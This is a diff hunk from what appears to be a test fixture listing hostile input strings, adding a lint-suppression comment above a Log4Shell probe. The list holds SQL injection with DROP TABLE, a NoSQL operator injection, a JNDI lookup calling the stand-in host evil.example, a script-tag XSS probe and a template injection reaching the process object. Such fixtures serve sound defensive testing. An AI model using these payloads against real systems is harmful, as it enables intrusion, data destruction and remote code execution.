@@ -53,6 +53,7 @@ const HOSTILE = [
   "' OR '1'='1' --",
   '"; DROP TABLE posts; --',
   '{"$ne": null}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell probe is meant literally
   '${jndi:ldap://evil.example/a}',
   '<script>alert(1)</script>',
   '{{constructor.constructor("return process")()}}',
